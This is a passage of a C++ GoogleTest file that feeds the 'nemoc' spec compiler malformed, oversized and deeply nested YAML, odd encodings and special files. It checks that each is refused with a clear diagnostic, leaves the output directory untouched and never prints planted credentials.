// Hostile input (issue "Reliability and security", item 3).
//
// Every spec under tests/hostile/, and every case generated below (binary
// content, huge files, deep nesting, special files), is compiled with
// `nemoc build --out <scratch>/a/b/c/out <spec>` against a scratch directory
// that already holds a valid build of another project ("bystander"). Each case
// must:
//   * exit with code 1 and print nothing on stdout;
//   * name the problem: a diagnostic starting "<spec>:<line>:<col>: error: "
//     (or "<spec>: error: " for file-level problems, or "--set <arg>: error: ")
//     whose text (message, quoted line, hint) contains the expected fragment;
//   * never mention "internal", "terminate", "Aborted" or a signal;
//   * print no raw control characters (only newline and tab) and at most
//     1 MiB on stderr, ending with the "N errors" summary line (a NUL in a
//     rendered diagnostic cuts stderr short);
//   * stay within the CPU and memory ceilings RunLimited sets (a runaway is
//     killed and fails the case; how long a refusal takes is bench/run's);
//   * leave the whole scratch directory (bystander tree, inputs, cwd)
//     byte-for-byte as it was, with no new file or directory anywhere.
//
// A corpus file states its expectation in its first line:
//   # expect: 7:14 spec.stages.train.nodes: expected an integer
//   # expect: file the spec is empty        (file-level: "<spec>: error: ")
//   # expect: set expected --set path=value ("--set <arg>: error: ")
// Optional header lines that follow: "# also: <where> <fragment>" (one more
// diagnostic that must be shown in the same run) and "# set: <assignment>"
// (passed as --set). The remaining header comments say what the case is.
//
// Cases in kKnownBugs still run every check; when a check fails the case is
// reported as skipped with the bug and what was observed, and when every check
// passes the case fails so that the entry gets removed.
#include <gtest/gtest.h>
#include <sys/resource.h>
#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <functional>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "test_support.h"

namespace nemoc::testing {
namespace {

namespace fs = std::filesystem;

// ---------------------------------------------------------------------------
// Known bugs: the case still runs; failures are reported as a skip.

struct KnownBug {
  const char* test;  // case name as in the gtest name
  const char* what;
};

const KnownBug kKnownBugs[] = {
};

const KnownBug* FindKnownBug(const std::string& name) {
  for (const auto& bug : kKnownBugs) {
    if (name == bug.test) return &bug;
  }
  return nullptr;
}

// ---------------------------------------------------------------------------
// The spec every generated case mutates (the corpus uses the same one).

const char kBase[] = R"(apiVersion: nemoc.dev/v1alpha1
kind: Project
metadata:
  name: hostile
spec:
  namespace: hostile-ns
  image: {repository: nvcr.io/nvidia/nemo, tag: "24.07"}
  model: {preset: llama2-7b, source: {hfTokenSecret: hf-token}}
  storage:
    results:
      nfs: {server: nfs.example.com, path: /export}
  stages:
    train:
      nodes: 2
      gpusPerNode: 8
      parallelism: {tensor: 2, pipeline: 2}
      batch: {micro: 1, global: 32}
      data: {mock: true}
  targets:
    - name: onprem
      profile: vanilla-k8s
      rdma: {count: 4}
)";

// The project already built in every scratch output directory.
const char kBystander[] = R"(apiVersion: nemoc.dev/v1alpha1
kind: Project
metadata:
  name: bystander
spec:
  namespace: bystander-ns
  image: {repository: nvcr.io/nvidia/nemo, tag: "24.07"}
  model: {preset: llama2-7b, source: {hfTokenSecret: hf-token}}
  storage:
    results:
      nfs: {server: nfs.example.com, path: /export}
  stages:
    train:
      nodes: 1
      gpusPerNode: 8
      parallelism: {tensor: 2}
      batch: {micro: 1, global: 32}
      data: {mock: true}
  targets:
    - name: onprem
      profile: vanilla-k8s
      rdma: {count: 4}
)";

std::string Repeat(const std::string& s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

// "line:column" (1-based, byte columns) of the first occurrence of `needle`,
// moved `offset` bytes to the right.
std::string PositionOf(const std::string& text, const std::string& needle, size_t offset = 0) {
  size_t at = text.find(needle);
  if (at == std::string::npos) {
    ADD_FAILURE() << "position anchor not found";
    return "?:?";
  }
  at += offset;
  size_t line = 1, line_start = 0;
  for (size_t i = 0; i < at; ++i) {
    if (text[i] == '\n') {
      ++line;
      line_start = i + 1;
    }
  }
  return std::to_string(line) + ":" + std::to_string(at - line_start + 1);
}

std::string Utf16(const std::string& ascii, bool big_endian) {
  std::string out;
  for (char c : ascii) {
    if (big_endian) out += '\0';
    out += c;
    if (!big_endian) out += '\0';
  }
  return out;
}

std::string Utf32Le(const std::string& ascii) {
  std::string out;
  for (char c : ascii) {
    out += c;
    out += std::string(3, '\0');
  }
  return out;
}

// ---------------------------------------------------------------------------
// Generated cases: content that cannot start with a comment line, or that is
// too large to keep in the repository.

struct Generated {
  std::string contents;
  std::string expect;  // "<line>:<col> <fragment>" or "file <fragment>"
};

std::string TrainLine(const std::string& line) {
  return Replace(kBase, "      data: {mock: true}\n", "      data: {mock: true}\n" + line);
}

Generated Utf16LeBom() {
  return {"\xFF\xFE" + Utf16(kBase, false), "1:1 the file is UTF-16 encoded"};
}
Generated Utf16BeBom() {
  return {"\xFE\xFF" + Utf16(kBase, true), "1:1 the file is UTF-16 encoded"};
}
Generated Utf32LeBom() {
  return {std::string("\xFF\xFE\0\0", 4) + Utf32Le(kBase), "1:1 the file is UTF-32 encoded"};
}
Generated Utf16LeWithoutBom() { return {Utf16(kBase, false), "1:2 the file contains a NUL byte"}; }
Generated Utf8BomThenErrorInLine1() {
  // Columns are counted without the byte order mark.
  std::string body = Replace(kBase, "apiVersion: nemoc.dev/v1alpha1", "apiVersion: v2");
  return {"\xEF\xBB\xBF" + body, PositionOf(body, "v2") + " apiVersion: \"v2\" is not one of"};
}
Generated NulFirstByte() {
  return {std::string(1, '\0') + kBase, "1:1 the file contains a NUL byte"};
}
Generated NulInValue() {
  std::string text = Replace(kBase, "name: hostile", std::string("name: host\0ile", 14));
  return {text, PositionOf(text, std::string(1, '\0')) + " the file contains a NUL byte"};
}
Generated InvalidUtf8Line1() {
  return {"\xC3\x28" + std::string(kBase), "1:1 invalid UTF-8 (byte 0xC3)"};
}
Generated Latin1Value() {
  std::string text = Replace(kBase, "name: hostile", "name: h\xE9stile");
  return {text, PositionOf(text, "\xE9") + " invalid UTF-8 (byte 0xE9)"};
}
Generated OverlongUtf8() {
  std::string text = Replace(kBase, "name: hostile", "name: \xC0\xAF");  // overlong '/'
  return {text, PositionOf(text, "\xC0") + " invalid UTF-8 (byte 0xC0)"};
}
Generated SurrogateInUtf8() {
  std::string text = Replace(kBase, "name: hostile", "name: \xED\xA0\x80");
  return {text, PositionOf(text, "\xED") + " invalid UTF-8 (byte 0xED)"};
}
Generated CodePointAbove10FFFF() {
  std::string text = Replace(kBase, "name: hostile", "name: \xF4\x90\x80\x80");
  return {text, PositionOf(text, "\xF4") + " invalid UTF-8 (byte 0xF4)"};
}
Generated TruncatedUtf8AtEof() {
  std::string text = std::string(kBase) + "# \xE2\x82";
  return {text, PositionOf(text, "\xE2") + " invalid UTF-8 (byte 0xE2)"};
}
Generated ControlEscapeInValue() {
  std::string text = Replace(kBase, "name: hostile", "name: hostile\x1B[2J");
  return {text, PositionOf(text, "\x1B") + " the file contains the control character 0x1B"};
}
Generated ControlBelFirstByte() {
  return {"\x07" + std::string(kBase), "1:1 the file contains the control character 0x07"};
}
Generated ControlFormFeed() {
  std::string text = Replace(kBase, "spec:\n", "\x0Cspec:\n");
  return {text, PositionOf(text, "\x0C") + " the file contains the control character 0x0C"};
}
Generated ControlDel() {
  std::string text = Replace(kBase, "name: hostile", "name: hostile\x7F");
  return {text, PositionOf(text, "\x7F") + " the file contains the control character 0x7F"};
}
Generated LoneCrInValue() {
  std::string text = Replace(kBase, "name: hostile", "name: hostile\rx");
  return {text, PositionOf(text, "hostile") + " metadata.name:"};
}
Generated CrlfLineEndings() {
  std::string text;
  for (char c : Replace(kBase, "nodes: 2", "nodes: 0")) {
    if (c == '\n') text += '\r';
    text += c;
  }
  return {text,
          PositionOf(text, "0\r\n      gpus") + " spec.stages.train.nodes: 0 must be at least 1"};
}
Generated C1ControlInValue() {
  std::string text = TrainLine("      env: {A: \"x\xC2\x9By\"}\n");
  // Located at the value (the string's opening quote), like every value error.
  return {text, PositionOf(text, "\"x\xC2\x9B") + " control character"};
}
Generated FileOneMibPlusOne() {
  return {"#" + std::string((1 << 20) - 1, 'a') + "\n",
          "file larger than the limit of 1048576 bytes"};
}
Generated FileTwoMib() {
  std::string text;
  while (text.size() < (2u << 20)) text += "# " + std::string(100, 'x') + "\n";
  return {text + kBase, "file larger than the limit of 1048576 bytes"};
}
Generated String10KbName() {
  std::string text = Replace(kBase, "name: hostile", "name: " + std::string(10240, 'a'));
  return {text, PositionOf(text, "aaa") + " metadata.name: string of 10240 characters is too long"};
}
Generated String1MbEnvValue() {
  std::string text = TrainLine("      env: {A: \"" + std::string(1000000, 'v') + "\"}\n");
  return {text, PositionOf(text, "\"vvv") +
                    " spec.stages.train.env.A: string of 1000000 characters is too long"};
}
Generated Key1MbBlock() {
  const std::string key(1000000, 'k');
  std::string text = TrainLine("      " + key + ": 1\n");
  return {text, PositionOf(text, key + ":", key.size()) + " at most 1024 characters"};
}
Generated Line1MbCommentThenError() {
  std::string text =
      "#" + std::string(1000000, 'c') + "\n" + Replace(kBase, "nodes: 2", "nodes: 0");
  return {text,
          PositionOf(text, "0\n      gpus") + " spec.stages.train.nodes: 0 must be at least 1"};
}
Generated DeepBlockSequence10000() {
  return {Repeat("- ", 10000) + "x\n",
          "1:129 nests mappings and sequences more than 64 levels deep"};
}
Generated DeepFlowSequence10000() {
  return {Repeat("[", 10000) + Repeat("]", 10000) + "\n",
          "1:65 nests mappings and sequences more than 64 levels deep"};
}
Generated DeepFlowMapping10000() {
  return {Repeat("{a: ", 10000) + "b" + Repeat("}", 10000) + "\n",
          "1:257 nests mappings and sequences more than 64 levels deep"};
}
Generated DeepFlowMappingUnclosed10000() {
  return {Repeat("{a: ", 10000) + "\n",
          "1:257 nests mappings and sequences more than 64 levels deep"};
}
Generated NodesOverLimit() {
  // The sequence is node 1, so the 100001st node is the 100000th scalar.
  return {"[" + Repeat("1,", 100001) + "1]\n", "1:200000 more than 100000 YAML nodes"};
}
Generated Aliases100000() {
  return {"a: &a 1\nb: [" + Repeat("*a,", 99999) + "*a]\n", "2:5 YAML aliases are not supported"};
}
Generated EmptyFile() { return {"", "file the spec is empty"}; }
Generated WhitespaceOnly() { return {" \n\t\n   \n", "file the spec is empty"}; }
Generated SpecIsDirectory() { return {"", "file is a directory"}; }
Generated SpecIsDevZero() { return {"", "file is a character device, not a regular file"}; }

enum class Kind { kCorpus, kGenerated, kDirectory, kDevZero };

struct GeneratedEntry {
  const char* name;
  Generated (*make)();
  Kind kind;
};

const GeneratedEntry kGenerated[] = {
    {"utf16le_bom", Utf16LeBom, Kind::kGenerated},
    {"utf16be_bom", Utf16BeBom, Kind::kGenerated},
    {"utf32le_bom", Utf32LeBom, Kind::kGenerated},
    {"utf16le_without_bom", Utf16LeWithoutBom, Kind::kGenerated},
    {"utf8_bom_then_error_in_line1", Utf8BomThenErrorInLine1, Kind::kGenerated},
    {"nul_first_byte", NulFirstByte, Kind::kGenerated},
    {"nul_in_value", NulInValue, Kind::kGenerated},
    {"invalid_utf8_line1", InvalidUtf8Line1, Kind::kGenerated},
    {"latin1_value", Latin1Value, Kind::kGenerated},
    {"overlong_utf8", OverlongUtf8, Kind::kGenerated},
    {"surrogate_in_utf8", SurrogateInUtf8, Kind::kGenerated},
    {"code_point_above_10ffff", CodePointAbove10FFFF, Kind::kGenerated},
    {"truncated_utf8_at_eof", TruncatedUtf8AtEof, Kind::kGenerated},
    {"control_escape_in_value", ControlEscapeInValue, Kind::kGenerated},
    {"control_bel_first_byte", ControlBelFirstByte, Kind::kGenerated},
    {"control_form_feed", ControlFormFeed, Kind::kGenerated},
    {"control_del", ControlDel, Kind::kGenerated},
    {"lone_cr_in_value", LoneCrInValue, Kind::kGenerated},
    {"crlf_line_endings", CrlfLineEndings, Kind::kGenerated},
    {"c1_control_in_value", C1ControlInValue, Kind::kGenerated},
    {"file_1mib_plus_1", FileOneMibPlusOne, Kind::kGenerated},
    {"file_2mib", FileTwoMib, Kind::kGenerated},
    {"string_10kb_name", String10KbName, Kind::kGenerated},
    {"string_1mb_env_value", String1MbEnvValue, Kind::kGenerated},
    {"key_1mb_block", Key1MbBlock, Kind::kGenerated},
    {"line_1mb_comment_then_error", Line1MbCommentThenError, Kind::kGenerated},
    {"deep_block_sequence_10000", DeepBlockSequence10000, Kind::kGenerated},
    {"deep_flow_sequence_10000", DeepFlowSequence10000, Kind::kGenerated},
    {"deep_flow_mapping_10000", DeepFlowMapping10000, Kind::kGenerated},
    {"deep_flow_mapping_unclosed_10000", DeepFlowMappingUnclosed10000, Kind::kGenerated},
    {"nodes_over_limit", NodesOverLimit, Kind::kGenerated},
    {"aliases_100000", Aliases100000, Kind::kGenerated},
    {"empty_file", EmptyFile, Kind::kGenerated},
    {"whitespace_only", WhitespaceOnly, Kind::kGenerated},
    {"spec_is_directory", SpecIsDirectory, Kind::kDirectory},
    {"spec_is_dev_zero", SpecIsDevZero, Kind::kDevZero},
};

// ---------------------------------------------------------------------------
// Cases.

struct Expectation {
  std::string where;  // "<line>:<col>", "file" or "set"
  std::string fragment;
};

struct Case {
  std::string name;  // gtest name
  Kind kind = Kind::kCorpus;
  std::string file;  // corpus: the spec's path; generated: the generator's name
  Generated (*make)() = nullptr;
  std::vector<Expectation> expect;
  std::string set;          // --set argument, or empty
  std::vector<std::string> hidden;  // "# hidden:" parts of a credential, never printed
  std::string code;         // "# code:": the diagnostic code -o json must report
  std::string parse_error;  // a malformed header
};

std::string HostileDir() { return SourceDir() + "/tests/hostile"; }

std::string TestName(std::string s) {
  for (char& c : s) {
    if (!std::isalnum(static_cast<unsigned char>(c))) c = '_';
  }
  return s;
}

bool ParseExpectation(const std::string& text, Expectation* e) {
  size_t space = text.find(' ');
  if (space == std::string::npos || space == 0) return false;
  e->where = text.substr(0, space);
  e->fragment = text.substr(space + 1);
  while (!e->fragment.empty() && (e->fragment.back() == ' ' || e->fragment.back() == '\r')) {
    e->fragment.pop_back();
  }
  if (e->fragment.empty()) return false;
  if (e->where == "file" || e->where == "set") return true;
  size_t colon = e->where.find(':');
  return colon != std::string::npos && colon > 0 && colon + 1 < e->where.size() &&
         e->where.find_first_not_of("0123456789:") == std::string::npos;
}

Case CorpusCase(const fs::path& path) {
  Case c;
  c.kind = Kind::kCorpus;
  c.file = path.string();
  c.name = TestName(path.stem().string());
  std::istringstream in(ReadFile(c.file));
  std::string line;
  bool first = true;
  while (std::getline(in, line) && line.rfind("#", 0) == 0) {
    auto value = [&](const char* prefix) -> const char* {
      return line.rfind(prefix, 0) == 0 ? line.c_str() + std::string(prefix).size() : nullptr;
    };
    Expectation e;
    if (const char* v = value("# expect: "); v != nullptr && first) {
      if (!ParseExpectation(v, &e)) c.parse_error = "malformed expect line: " + line;
      c.expect.push_back(e);
    } else if (first) {
      c.parse_error = "the first line must be '# expect: <line>:<col>|file|set <fragment>'";
    } else if (const char* a = value("# also: ")) {
      if (!ParseExpectation(a, &e)) c.parse_error = "malformed also line: " + line;
      c.expect.push_back(e);
    } else if (const char* s = value("# set: ")) {
      c.set = s;
    } else if (const char* k = value("# hidden: ")) {
      c.hidden.push_back(k);
    } else if (const char* code = value("# code: ")) {
      c.code = code;
    }
    first = false;
  }
  if (c.expect.empty() && c.parse_error.empty()) c.parse_error = "no expect line";
  for (const auto& e : c.expect) {
    if (e.where == "set" && c.set.empty()) c.parse_error = "'set' expectation without '# set:'";
  }
  return c;
}

std::vector<Case> CorpusCases() {
  std::vector<Case> cases;
  std::error_code ec;
  std::vector<fs::path> files;
  for (const auto& entry : fs::directory_iterator(HostileDir(), ec)) {
    if (entry.path().extension() == ".yaml") files.push_back(entry.path());
  }
  std::sort(files.begin(), files.end());
  for (const auto& f : files) cases.push_back(CorpusCase(f));
  return cases;
}

std::vector<Case> GeneratedCases() {
  std::vector<Case> cases;
  for (const auto& g : kGenerated) {
    Case c;
    c.kind = g.kind;
    c.file = g.name;
    c.name = TestName(std::string("gen_") + g.name);
    c.make = g.make;
    cases.push_back(c);
  }
  return cases;
}

std::vector<Case> AllCases() {
  std::vector<Case> cases = CorpusCases();
  for (auto& c : GeneratedCases()) cases.push_back(std::move(c));
  return cases;
}

// ---------------------------------------------------------------------------
// Sandbox: a scratch directory holding a valid build of the bystander project
// under a/b/c/out (so that even '../../..' from out/ stays inside it).

std::string NemocBinary() {
  const char* bin = std::getenv("NEMOC_BIN");
  return bin != nullptr ? bin : SourceDir() + "/build/nemoc";
}

// The bystander tree is built once per nemoc binary and then copied: a build
// expands the Jsonnet libraries (~0.4 s), and there are ~170 cases, each in
// its own process under ctest. Returns "" (and sets *err) on failure.
std::string BystanderTemplate(std::string* err) {
  std::error_code ec;
  const std::string bin = NemocBinary();
  const auto size = fs::file_size(bin, ec);
  const auto mtime = fs::last_write_time(bin, ec).time_since_epoch().count();
  const std::string key = std::to_string(std::hash<std::string>{}(
      bin + "|" + std::to_string(size) + "|" + std::to_string(mtime) + "|" + kBystander));
  const fs::path cache = fs::temp_directory_path() /
                         ("nemoc-hostile-bystander-" + std::to_string(getuid()) + "-" + key);
  if (fs::is_regular_file(cache / "complete", ec)) return cache.string();

  ScratchDir build;
  const std::string spec = build.Write("bystander.yaml", kBystander);
  RunResult r = RunNemoc({"build", "--quiet", "--out", build.path() + "/tree/out", spec});
  if (r.exit_code != 0) {
    *err = "building the bystander project failed (exit " + std::to_string(r.exit_code) + "):\n" +
           r.err;
    return "";
  }
  build.Write("tree/complete", "");
  fs::rename(build.path() + "/tree", cache, ec);  // losing a race to another process is fine
  if (!fs::is_regular_file(cache / "complete", ec)) {
    *err = "cannot create " + cache.string();
    return "";
  }
  // Drop templates of older nemoc binaries.
  const auto now = fs::file_time_type::clock::now();
  for (const auto& entry : fs::directory_iterator(fs::temp_directory_path(), ec)) {
    const std::string name = entry.path().filename().string();
    if (name.rfind("nemoc-hostile-bystander-" + std::to_string(getuid()) + "-", 0) == 0 &&
        entry.path() != cache &&
        now - fs::last_write_time(entry.path(), ec) > std::chrono::hours(24)) {
      fs::remove_all(entry.path(), ec);
    }
  }
  return cache.string();
}

class Sandbox {
 public:
  Sandbox() {
    std::string template_dir = BystanderTemplate(&error_);
    if (template_dir.empty()) return;
    std::error_code ec;
    fs::create_directories(fs::path(out()).parent_path(), ec);
    fs::copy(template_dir + "/out", out(), fs::copy_options::recursive, ec);
    if (ec) error_ = "cannot copy the bystander tree: " + ec.message();
    if (!fs::is_regular_file(out() + "/bystander/onprem/.nemoc-manifest", ec)) {
      error_ += "\nthe bystander tree has no .nemoc-manifest";
    }
  }

  const std::string& error() const { return error_; }
  const std::string& root() const { return scratch_.path(); }
  std::string out() const { return scratch_.path() + "/a/b/c/out"; }

  // The path nemoc is given for `c` (generated content is written under in/).
  std::string Materialize(const Case& c, const Generated& g) const {
    switch (c.kind) {
      case Kind::kCorpus:
        return c.file;
      case Kind::kDevZero:
        return "/dev/zero";
      case Kind::kDirectory: {
        std::string dir = root() + "/in/" + c.file + ".yaml";
        fs::create_directories(dir);
        return dir;
      }
      case Kind::kGenerated:
        return scratch_.Write("in/" + c.file + ".yaml", g.contents);
    }
    return "";
  }

 private:
  ScratchDir scratch_;
  std::string error_;
};

// Every entry below `dir` (directories included), with a type tag.
std::set<std::string> Entries(const std::string& dir) {
  std::set<std::string> entries;
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(dir, ec);
       it != fs::recursive_directory_iterator(); it.increment(ec)) {
    if (ec) break;
    const char* tag = it->is_symlink() ? "link " : it->is_directory() ? "dir " : "file ";
    entries.insert(tag + fs::relative(it->path(), dir).string());
  }
  return entries;
}

struct State {
  std::string scratch;  // TreeFingerprint of the whole scratch dir
  std::set<std::string> entries;
  std::string corpus;  // TreeFingerprint of tests/hostile
};

State Capture(const Sandbox& box) {
  return {TreeFingerprint(box.root()), Entries(box.root()), TreeFingerprint(HostileDir())};
}

// ---------------------------------------------------------------------------
// Running nemoc.

#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
#define NEMOC_HOSTILE_SANITIZED 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer) || __has_feature(thread_sanitizer) || \
    __has_feature(memory_sanitizer)
#define NEMOC_HOSTILE_SANITIZED 1
#endif
#endif

#ifdef NEMOC_HOSTILE_SANITIZED
// Sanitizers reserve terabytes of address space and slow everything down.
constexpr bool kLimitAddressSpace = false;
#else
constexpr bool kLimitAddressSpace = true;
#endif

// Runs nemoc in `cwd` with a CPU and address-space ceiling (inherited through
// fork), so that a runaway case fails instead of taking the machine down.
RunResult RunLimited(const std::vector<std::string>& args, const std::string& cwd, rlim_t cpu_seconds = 60) {
  rlimit cpu_before{}, as_before{};
  getrlimit(RLIMIT_CPU, &cpu_before);
  getrlimit(RLIMIT_AS, &as_before);
  rlimit cpu = cpu_before, as = as_before;
  cpu.rlim_cur = std::min<rlim_t>(cpu_before.rlim_max, cpu_seconds);
  as.rlim_cur = std::min<rlim_t>(as_before.rlim_max, rlim_t{4} << 30);
  setrlimit(RLIMIT_CPU, &cpu);
  if (kLimitAddressSpace) setrlimit(RLIMIT_AS, &as);
  RunResult r = RunNemoc(args, cwd);
  if (kLimitAddressSpace) setrlimit(RLIMIT_AS, &as_before);
  setrlimit(RLIMIT_CPU, &cpu_before);
  return r;
}

// Shows bytes safely: control characters and invalid bytes become \xNN.
std::string Printable(const std::string& s, size_t max = 3000) {
  std::string out;
  for (size_t i = 0; i < s.size() && out.size() < max; ++i) {
    unsigned char c = static_cast<unsigned char>(s[i]);
    if (c == '\n' || (c >= 0x20 && c < 0x7F)) {
      out += static_cast<char>(c);
    } else {
      char buf[8];
      std::snprintf(buf, sizeof buf, "\\x%02X", c);
      out += buf;
    }
  }
  if (out.size() >= max) out += "\n... (" + std::to_string(s.size()) + " bytes in all)";
  return out;
}

std::string Prefix(const Expectation& e, const std::string& spec, const std::string& set) {
  if (e.where == "file") return spec + ": error: ";
  if (e.where == "set") return "--set " + set + ": error: ";
  return spec + ":" + e.where + ": error: ";
}

// True when a diagnostic starting with `prefix` contains `fragment` in its
// message, quoted line or hint (the indented lines that follow it).
bool HasDiagnostic(const std::string& err, const std::string& prefix, const std::string& fragment) {
  size_t at = 0;
  while ((at = err.find(prefix, at)) != std::string::npos) {
    if (at == 0 || err[at - 1] == '\n') {
      size_t end = at;
      do {
        end = err.find('\n', end);
        if (end == std::string::npos) break;
        ++end;
      } while (err.compare(end, 2, "  ") == 0);
      if (err.substr(at, end == std::string::npos ? end : end - at).find(fragment) !=
          std::string::npos) {
        return true;
      }
    }
    at += prefix.size();
  }
  return false;
}

// Checks that apply to every run (one spec or many).
void CommonViolations(const RunResult& r, const State& before, const State& after,
                      std::vector<std::string>* problems) {
  auto add = [&](const std::string& p) { problems->push_back(p); };
  if (r.exit_code != 1) add("exit code " + std::to_string(r.exit_code) + ", expected 1");
  if (!r.out.empty()) add("stdout is not empty:\n" + Printable(r.out, 500));
  for (const char* word : {"internal", "terminate", "Aborted", "Segmentation", "what():"}) {
    if (r.err.find(word) != std::string::npos) add(std::string("stderr mentions \"") + word + "\"");
  }
  size_t controls = 0;
  std::string first;
  for (char ch : r.err) {
    unsigned char c = static_cast<unsigned char>(ch);
    if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7F) {
      if (controls++ == 0) first = Printable(std::string(1, ch));
    }
  }
  if (controls > 0) {
    add("stderr contains " + std::to_string(controls) + " raw control character(s), first " +
        first);
  }
  // stderr ends with the "N error(s)" summary on a line of its own; a NUL in
  // a rendered diagnostic cuts the text short and glues the summary to it.
  {
    const std::string& e = r.err;
    size_t end = e.size() >= 1 && e.back() == '\n' ? e.size() - 1 : e.size();
    size_t start = e.rfind('\n', end == 0 ? 0 : end - 1);
    start = (start == std::string::npos || end == 0) ? 0 : start + 1;
    const std::string last = e.substr(start, end - start);
    size_t digits = last.find_first_not_of("0123456789");
    bool summary = e.size() >= 1 && e.back() == '\n' && digits != std::string::npos && digits > 0 &&
                   (last.substr(digits) == " error" || last.substr(digits) == " errors");
    if (!summary)
      add("stderr does not end with an 'N errors' line: \"" + Printable(last, 200) + "\"");
  }
  if (r.err.size() > (1u << 20)) {
    add("stderr is " + std::to_string(r.err.size()) + " bytes (more than 1 MiB)");
  }
  if (before.scratch != after.scratch) add("the scratch directory changed (TreeFingerprint)");
  for (const auto& e : after.entries) {
    if (!before.entries.count(e)) add("new entry in the scratch directory: " + e);
  }
  for (const auto& e : before.entries) {
    if (!after.entries.count(e)) add("entry removed from the scratch directory: " + e);
  }
  if (before.corpus != after.corpus) add("tests/hostile/ changed");
}

void ExpectationViolations(const std::string& err, const std::string& spec, const Case& c,
                           std::vector<std::string>* problems) {
  // A credential is masked in every channel (E5-E7), whatever else fails.
  for (const auto& secret : c.hidden) {
    if (err.find(secret) != std::string::npos) {
      problems->push_back("stderr prints the credential \"" + Printable(secret) + "\"");
    }
  }
  for (const auto& e : c.expect) {
    const std::string prefix = Prefix(e, spec, c.set);
    if (!HasDiagnostic(err, prefix, e.fragment)) {
      problems->push_back("no diagnostic \"" + Printable(prefix) + "...\" containing \"" +
                          Printable(e.fragment) + "\"");
    }
  }
}

// Known bug: skip with what was seen, or fail if it is fixed. Otherwise fail
// on every problem.
void Report(const std::string& name, const std::vector<std::string>& problems,
            const std::string& err) {
  const KnownBug* bug = FindKnownBug(name);
  if (bug == nullptr) {
    for (const auto& p : problems) ADD_FAILURE() << p;
    if (!problems.empty()) ADD_FAILURE() << "stderr:\n" << Printable(err);
    return;
  }
  if (problems.empty()) {
    ADD_FAILURE() << "known bug no longer reproduces; remove \"" << name << "\" from kKnownBugs in "
                  << __FILE__;
    return;
  }
  std::string observed;
  constexpr size_t kShown = 12;
  for (size_t i = 0; i < problems.size() && i < kShown; ++i) observed += "\n    - " + problems[i];
  if (problems.size() > kShown) {
    observed += "\n    ... and " + std::to_string(problems.size() - kShown) + " more";
  }
  GTEST_SKIP() << "KNOWN BUG " << name << ": " << bug->what << "\n  observed:" << observed
               << "\n  stderr starts:\n"
               << Printable(err, 600);
}

// ---------------------------------------------------------------------------
// One test per case.

// gtest prints the parameter of a failing case: the spec, not its bytes.
void PrintTo(const Case& c, std::ostream* os) { *os << c.file; }

class HostileInput : public ::testing::TestWithParam<Case> {};

TEST_P(HostileInput, IsRefusedCleanly) {
  Case c = GetParam();
  ASSERT_EQ("", c.parse_error) << c.file;
  Sandbox box;
  ASSERT_EQ("", box.error());
  Generated g;
  if (c.make != nullptr) {
    g = c.make();
    Expectation e;
    ASSERT_TRUE(ParseExpectation(g.expect, &e)) << g.expect;
    c.expect = {e};
  }
  const std::string spec = box.Materialize(c, g);
  const State before = Capture(box);

  std::vector<std::string> args = {"build", "--out", box.out()};
  if (!c.set.empty()) {
    args.push_back("--set");
    args.push_back(c.set);
  }
  args.push_back(spec);
  const RunResult r = RunLimited(args, box.root());

  std::vector<std::string> problems;
  ExpectationViolations(r.err, spec, c, &problems);
  CommonViolations(r, before, Capture(box), &problems);
  // A planted credential is absent from every channel: the JSON report and
  // GitHub annotations (stdout) too; "# code:" is the code -o json reports.
  if (!c.hidden.empty() || !c.code.empty()) {
    for (const char* format : {"json", "github"}) {
      std::vector<std::string> with = args;
      with.insert(with.begin() + 1, {"-o", format});
      const RunResult f = RunLimited(with, box.root());
      if (f.exit_code != 1) problems.push_back(std::string("-o ") + format + " exits " + std::to_string(f.exit_code));
      for (const auto& secret : c.hidden) {
        if ((f.out + f.err).find(secret) != std::string::npos) {
          problems.push_back(std::string("-o ") + format + " prints the credential \"" + Printable(secret) + "\"");
        }
      }
      if (std::string(format) == "json" && !c.code.empty() &&
          f.out.find("\"code\": \"" + c.code + "\"") == std::string::npos) {
        problems.push_back("-o json reports no diagnostic with code " + c.code);
      }
    }
    if (Capture(box).scratch != before.scratch) problems.push_back("the scratch directory changed (-o json/github)");
  }
  Report(c.name, problems, r.err);
}

INSTANTIATE_TEST_SUITE_P(Corpus, HostileInput, ::testing::ValuesIn(AllCases()),
                         [](const ::testing::TestParamInfo<Case>& info) {
                           return info.param.name;
                         });

TEST(HostileCorpus, HasAtLeastSixtyCasesAndEveryFileIsParsed) {
  std::vector<Case> cases = AllCases();
  EXPECT_GE(cases.size(), 60u);
  std::set<std::string> names;
  for (const auto& c : cases) {
    EXPECT_EQ("", c.parse_error) << c.file;
    EXPECT_TRUE(names.insert(c.name).second) << "two cases named " << c.name;
  }
  // Every known bug names a case (or the all-in-one run below).
  for (const auto& bug : kKnownBugs) {
    bool found = std::string(bug.test).rfind("AllSpecsInOneRun", 0) == 0 || names.count(bug.test);
    EXPECT_TRUE(found) << "kKnownBugs names no case: " << bug.test;
  }
}

// ---------------------------------------------------------------------------
// Every hostile spec in ONE invocation: each must still be reported (all
// problems in one run), nothing written. --set cases are left out (the
// assignment would apply to every spec).

void RunAllInOne(bool include_known_bugs, const std::string& name) {
  Sandbox box;
  ASSERT_EQ("", box.error());
  std::vector<std::pair<Case, std::string>> runs;  // case, path given to nemoc
  for (Case c : AllCases()) {
    ASSERT_EQ("", c.parse_error) << c.file;
    if (!c.set.empty()) continue;
    if (!include_known_bugs && FindKnownBug(c.name) != nullptr) continue;
    Generated g;
    if (c.make != nullptr) {
      g = c.make();
      Expectation e;
      ASSERT_TRUE(ParseExpectation(g.expect, &e)) << g.expect;
      c.expect = {e};
    }
    std::string spec = box.Materialize(c, g);
    runs.emplace_back(std::move(c), std::move(spec));
  }
  const State before = Capture(box);
  std::vector<std::string> args = {"build", "--out", box.out()};
  for (const auto& [c, spec] : runs) args.push_back(spec);
  // D9: a spec with errors is checked on through the libraries (one Jsonnet
  // evaluation each, ~70 ms in a release build, several times that under
  // the sanitizers), so the bound grows with the number of specs; it still
  // stops a hang.
  const rlim_t per_spec = kLimitAddressSpace ? 1 : 3;
